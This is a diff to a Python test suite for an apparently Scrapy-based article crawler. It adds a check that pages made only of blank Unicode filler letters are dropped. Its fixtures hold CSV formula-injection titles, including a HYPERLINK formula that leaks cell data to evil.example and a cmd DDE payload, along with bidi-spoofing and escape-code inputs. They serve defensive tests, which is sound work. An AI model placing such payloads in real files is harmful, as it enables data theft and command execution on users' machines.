@@ -67,6 +67,20 @@ def spoof_page(slug: str) -> bytes:
     return page.replace(f"<p>{PARAGRAPHS[0]}", f"<p>\u202e{PARAGRAPHS[0]}\u2069 {PERSIAN} {FAMILY}").encode()
 
 
+# Blank letters: Hangul fillers (U+3164, U+FFA0, the conjoining U+115F, U+1160), the Braille blank and the Khmer
+# inherent vowels show as space but are no whitespace to str.split(): a page of nothing else was a stored article.
+FILLERS = "\u3164\uffa0\u115f\u1160\u2800\u17b4\u17b5"
+
+
+def blank_page(slug: str) -> bytes:
+    """An article whose title, headline, lead and paragraphs are blank letters only."""
+    page = article(slug, title=FILLERS * 3).replace(
+        "<title>", f"<meta name='description' content='{FILLERS}'><title>")
+    for paragraph in PARAGRAPHS:
+        page = page.replace(paragraph, FILLERS * 40)
+    return page.encode()
+
+
 # Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
 FORMULAS = {
     "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
@@ -75,8 +89,10 @@ FORMULAS = {
     "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Совещание",
 }
 PAGES = {"escape-codes": escape_page("escape-codes"), "bidi-spoof": spoof_page("bidi-spoof"),
-         "plain-page": article("plain-page").encode(),
+         "plain-page": article("plain-page").encode(), "blank-fillers": blank_page("blank-fillers"),
          **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
+
+STORED = set(PAGES) - {"blank-fillers"}  # the slugs stored: a page of blank letters has no title
 
 
 def build(root: Path) -> Path:
@@ -143,7 +159,7 @@ def strings(value: Any) -> Iterator[str]:
 
 def test_no_c0_control_character_of_a_page_is_stored(crawled: Crawled) -> None:
     records = crawled.records()
-    assert set(records) == set(PAGES), log_excerpt(crawled.result.stderr)
+    assert set(records) == STORED, log_excerpt(crawled.result.stderr)
     record = records["escape-codes"]
     found = {text[:80] for text in strings(record) if STORED_CONTROL.search(text)}
     assert not found
@@ -161,6 +177,11 @@ def test_no_bidi_control_or_invisible_character_of_a_page_is_stored(crawled: Cra
     assert record["authors"] == ["Иван Петров"]
     assert record["lead"] == f"Лид статьи {FAMILY}"
     assert record["paragraphs"][0] == f"{PARAGRAPHS[0]} {PERSIAN} {FAMILY}"
+
+
+def test_a_page_of_blank_letters_only_is_no_article(crawled: Crawled) -> None:
+    assert "blank-fillers" not in crawled.records()
+    assert crawled.result.stats["validation/dropped/missing/title"] == 1
 
 
 def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Crawled) -> None:
@@ -187,7 +208,7 @@ def test_no_csv_cell_starts_as_a_formula(crawled: Crawled, tmp_path: Path, sourc
         out = crawled.feed_csv
     with out.open(newline="", encoding="utf-8") as stream:
         rows = {slug_of(row["url"]): row for row in csv.DictReader(stream)}
-    assert set(rows) == set(PAGES)
+    assert set(rows) == STORED
     assert {slug: rows[slug]["title"] for slug in FORMULAS} == {slug: f"'{title}" for slug, title in FORMULAS.items()}
     starts = {(slug, name): cell[:40] for slug, row in rows.items() for name, cell in row.items()
               if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
